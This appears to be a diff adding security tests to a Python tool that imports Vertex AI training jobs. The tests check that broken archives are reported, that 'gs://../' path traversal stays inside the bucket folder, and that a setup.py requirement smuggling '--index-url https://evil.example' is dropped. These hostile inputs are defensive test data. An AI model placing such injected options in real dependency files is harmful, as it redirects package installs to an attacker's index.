@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+import io
 import json
+import os
 import subprocess
 import sys
+import tarfile
 from contextlib import suppress
 from pathlib import Path
 
@@ -13,7 +16,8 @@ import pytest
 from tests.security.test_links import SECRET
 from tests.unit.vt.importing.test_command import YAML, project, vt
 from vertex_training.errors import CommandError
-from vertex_training_cli.importing import sources
+from vertex_training_cli.importing import recorded, sources
+from vertex_training_cli.importing.imported import ImportedJob
 from vertex_training_cli.importing.values import MAX_LENGTH, Unknown, text
 
 __all__ = ["project", "vt"]
@@ -161,3 +165,57 @@ def test_a_source_of_many_parts_is_read_in_time_that_grows_with_its_length(
     (tmp_path / name).write_text(text)
     with suppress(CommandError):  # some have no job
         sources.read(tmp_path / name)
+
+
+def packed(files: dict[str, bytes]) -> bytes:
+    """An archive as the client makes one of a script."""
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
+        for name, content in files.items():
+            info = tarfile.TarInfo(f"p/{name}")
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return packed.getvalue()
+
+
+TASK = "aiplatform_custom_trainer_script/task.py"
+PACKAGES = {
+    "no archive": b"x",
+    "a cut archive": packed({TASK: os.urandom(300_000)})[:100_000],
+    "a broken archive": packed({TASK: b"x" * 9999})[:40] + b"\xff" * 50,
+    "no Python": packed({TASK: b"1", "setup.py": b"def (:"}),
+    "deep Python": packed({TASK: b"1", "setup.py": b"x=" + b"-" * 100_000 + b"1"}),
+}
+PACKAGE = "aiplatform-x-aiplatform_custom_trainer_script-0.1.tar.gz"
+
+
+def took(uri: str, buckets: Path) -> tuple[ImportedJob, sources.Source]:
+    """A job of a command, and what is taken of its package."""
+    pool = {"pythonPackageSpec": {"packageUris": [uri]}}
+    source = sources.Source([job := ImportedJob("j", {"workerPoolSpecs": [pool]})])
+    recorded.take_script(job, buckets, source)
+    return job, source
+
+
+@pytest.mark.parametrize("content", PACKAGES.values(), ids=PACKAGES)
+def test_a_package_that_cannot_be_read_is_told_and_stays_as_it_is(
+    content: bytes, tmp_path: Path
+) -> None:
+    (tmp_path / "stg").mkdir()
+    (tmp_path / "stg" / PACKAGE).write_bytes(content)
+    job, source = took(f"gs://stg/{PACKAGE}", tmp_path)
+    assert (job.script, source.files) == ("", {})
+    assert PACKAGE in job.remarks[0]
+
+
+def test_a_package_is_taken_from_the_buckets_alone_and_brings_no_options_of_pip(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "buckets" / "stg").mkdir(parents=True)
+    setup = b"setup(install_requires=['a', 'b\\n--index-url https://evil.example'])"
+    content = packed({TASK: b"1", "setup.py": setup})
+    for folder in (tmp_path, tmp_path / "buckets" / "stg"):
+        (folder / PACKAGE).write_bytes(content)
+    assert took(f"gs://../{PACKAGE}", tmp_path / "buckets")[1].files == {}
+    job, source = took(f"gs://stg/{PACKAGE}", tmp_path / "buckets")
+    assert (source.files, job.requirements) == ({"j.py": "1"}, ("a",))
